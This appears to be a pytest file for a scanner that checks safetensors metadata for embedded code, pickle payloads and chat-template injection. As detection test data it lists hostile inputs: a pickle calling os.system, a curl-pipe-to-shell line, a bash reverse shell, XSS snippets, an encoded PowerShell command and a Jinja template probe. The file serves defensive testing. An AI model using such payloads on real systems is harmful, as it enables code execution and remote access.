"""Texts in metadata: programs, templates and files in them are found, ordinary descriptions are not."""

from __future__ import annotations

import base64
import json
import zlib
from typing import TYPE_CHECKING

import pytest

if TYPE_CHECKING:
    from tests.scan.conftest import Build, Scan

PAYLOAD = b"\x80\x02cos\nsystem\nX\x09\0\0\0echo seen\x85R."


def metadata(scan: Scan, build: Build, text: str) -> set[str]:
    return scan("x.safetensors", build.safetensors({"__metadata__": {"note": text}})).rules


@pytest.mark.parametrize(
    "text",
    [
        "__import__('os').system('echo seen')",
        "see os.system('echo seen') for more",
        "x = subprocess.check_output(['echo'])",
        "eval(compile('1', '', 'eval'))",
        "exec(base64.b64decode('eA=='))",
        "pickle.loads(blob) and so on",
        "!!python/object/apply:os.system [echo]",
        "curl https://index.example/x | sh",
        "bash -i >& /dev/tcp/127.0.0.1/9 0>&1",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "powershell.exe -nop -enc ZQBjAGgAbwA=",
        "#!/bin/sh\necho seen and seen\n",
    ],
)
def test_programs_are_found(scan: Scan, build: Build, text: str) -> None:
    assert "code-in-metadata" in metadata(scan, build, text)


@pytest.mark.parametrize(
    "text",
    [
        base64.b64encode(PAYLOAD).decode(),
        base64.urlsafe_b64encode(PAYLOAD).decode().rstrip("="),
        "data:application/octet-stream;base64," + base64.b64encode(PAYLOAD).decode(),
        base64.encodebytes(PAYLOAD * 3).decode(),
        PAYLOAD.hex(),
        "0x" + PAYLOAD.hex(),
        PAYLOAD.decode("latin-1"),
        base64.b64encode(zlib.compress(PAYLOAD)).decode(),
        "cos\nsystem\n(S'echo seen'\ntR.",
    ],
)
def test_files_in_texts_are_found_and_examined(scan: Scan, build: Build, text: str) -> None:
    found = metadata(scan, build, text)
    assert {"code-in-metadata", "dangerous-global"} <= found


def test_templates_and_json_in_texts_are_examined(scan: Scan, build: Build) -> None:
    template = "{{ ''.__class__.__mro__ }}"
    assert metadata(scan, build, template) == {"chat-template-injection"}
    assert metadata(scan, build, json.dumps({"chat_template": template})) == {"chat-template-injection"}


@pytest.mark.parametrize(
    "text",
    [
        "",
        "pt",
        "float8_e4m3fn, float8_e5m2",
        "commands\nlines\nand more\n",
        "cats\ndogs\n",
        "[INST] {prompt} [/INST] said the user",
        "{not json at all}",
        '{"ss_network_dim": "16", "ss_tag_frequency": {"a": {"cat": 3}}}',
        "d" * 64,
        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855" * 2,
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
        "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ",
        "data:;base64,===",
        "A model that imports knowledge, evaluates (carefully) and runs calls; see docs/eval.md (section 3).",
        'Licensed under the Apache License, Version 2.0 (the "License");\nyou may not use this file except …',
        "über großen Größen, 日本語のモデル",
        "../../models/base.safetensors",
        "{{ bos_token }}{% for m in messages %}{{ m['content'] }}{% endfor %}",
        base64.b64encode(zlib.compress(b"plain text, nothing else")).decode(),
        base64.b64encode(b"x\x9c and then no deflate").decode(),
        "group_normalization",
        "I think so.",
        "(cold) and wet, (hot) and dry.",
    ],
)
def test_descriptions_are_clean(scan: Scan, build: Build, text: str) -> None:
    told = scan("x.safetensors", build.safetensors({"__metadata__": {"note": text}}))
    assert told.clean, [str(item) for item in told.findings]


def test_texts_of_broken_metadata_are_examined(scan: Scan, build: Build) -> None:
    header = {"__metadata__": {"deep": {"note": "os.system('echo seen')"}, "n": 1}}
    assert scan("x.safetensors", build.safetensors(header)).rules == {"code-in-metadata", "safetensors-bad-header"}


def test_texts_that_cannot_be_bytes_are_only_read(scan: Scan, build: Build) -> None:
    assert metadata(scan, build, "日本 os.system('id')") == {"code-in-metadata"}
